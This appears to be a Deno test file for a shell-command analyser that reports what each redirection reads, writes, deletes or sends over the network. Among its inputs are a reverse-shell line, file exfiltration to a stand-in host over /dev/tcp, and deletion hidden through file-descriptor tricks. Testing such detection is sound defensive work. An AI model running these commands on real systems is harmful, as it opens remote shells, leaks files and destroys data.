/** Tests redirections. */
import assert from "node:assert/strict";
import { runs } from "../programs/seen.ts";
import { told } from "../programs/told.ts";

const CASES:
  readonly (readonly [string, readonly string[], readonly string[]])[] = [
    ["echo a > out", ["echo"], ["write /home/dev/project/out"]],
    ["echo a >> out", ["echo"], ["append /home/dev/project/out"]],
    ["echo a >| out", ["echo"], ["write /home/dev/project/out"]],
    ["echo a &> out", ["echo"], ["write /home/dev/project/out"]],
    ["echo a >& out", ["echo"], ["write /home/dev/project/out"]],
    ["echo a 2> out", ["echo"], ["write /home/dev/project/out"]],
    ["cat < in", ["cat"], ["read /home/dev/project/in"]],
    ["cat <> in", ["cat"], [
      "read /home/dev/project/in",
      "append /home/dev/project/in",
    ]],
    ["cat <<< a", ["cat"], []],
    ["bash <<< 'rm a'", ["bash stdin", "rm < bash"], [
      "delete /home/dev/project/a",
    ]],
    ["bash < in", ["bash stdin"], [
      "read /home/dev/project/in",
      "unresolved code",
    ]],
    ["exec 3> out; echo rm a >&3; bash out", [
      "exec",
      "echo",
      "bash file",
      "rm < bash out",
    ], [
      "write /home/dev/project/out",
      "read /home/dev/project/out",
      "delete /home/dev/project/a",
    ]],
    ["exec 3< in; cat <&3", ["exec", "cat"], ["read /home/dev/project/in"]],
    ["exec 3<<<'rm a'; bash <&3", ["exec", "bash stdin", "rm < bash"], [
      "delete /home/dev/project/a",
    ]],
    ["exec {fd}<<<'rm a'; source /dev/fd/$fd", [
      "exec",
      "source file",
      "rm < source",
    ], ["delete /home/dev/project/a"]],
    ["exec 3>&-", ["exec"], []],
    ["bash 3< /dev/tcp/h.example/1", ["bash"], ["send nothing to h.example"]],
    ["bash < /dev/tcp/h.example/1", ["bash network"], [
      "send nothing to h.example",
      "unresolved code",
    ]],
    ["cat a > /dev/tcp/h.example/1", ["cat"], [
      "send nothing to h.example",
      "read /home/dev/project/a",
      "send file to h.example",
    ]],
    ["bash -i >& /dev/tcp/h.example/1 0>&1", ["bash network"], [
      "send nothing to h.example",
      "unresolved code",
      "send data to h.example",
    ]],
    ["exec 3<>/dev/tcp/h.example/1; bash <&3", ["exec", "bash network"], [
      "send nothing to h.example",
      "unresolved code",
    ]],
    ["echo a > /dev/null", ["echo"], ["write /dev/null"]],
    ['echo a > "$X"', ["echo"], ["write $X"]],
    ['echo a > "/tmp/$X"', ["echo"], ["write /tmp/*"]],
    ["rm a 2>/dev/null", ["rm"], [
      "write /dev/null",
      "delete /home/dev/project/a",
    ]],
    ["{ echo a; echo b; } > out", ["echo", "echo"], [
      "write /home/dev/project/out",
    ]],
    ["echo a 1>&2", ["echo"], []],
    [": > out", [":"], ["write /home/dev/project/out"]],
  ];

for (const [command, ran, wanted] of CASES) {
  Deno.test(`openRedirects() follows: ${command}`, () => {
    assert.deepEqual(runs(command), ran);
    assert.deepEqual(told(command), wanted);
  });
}
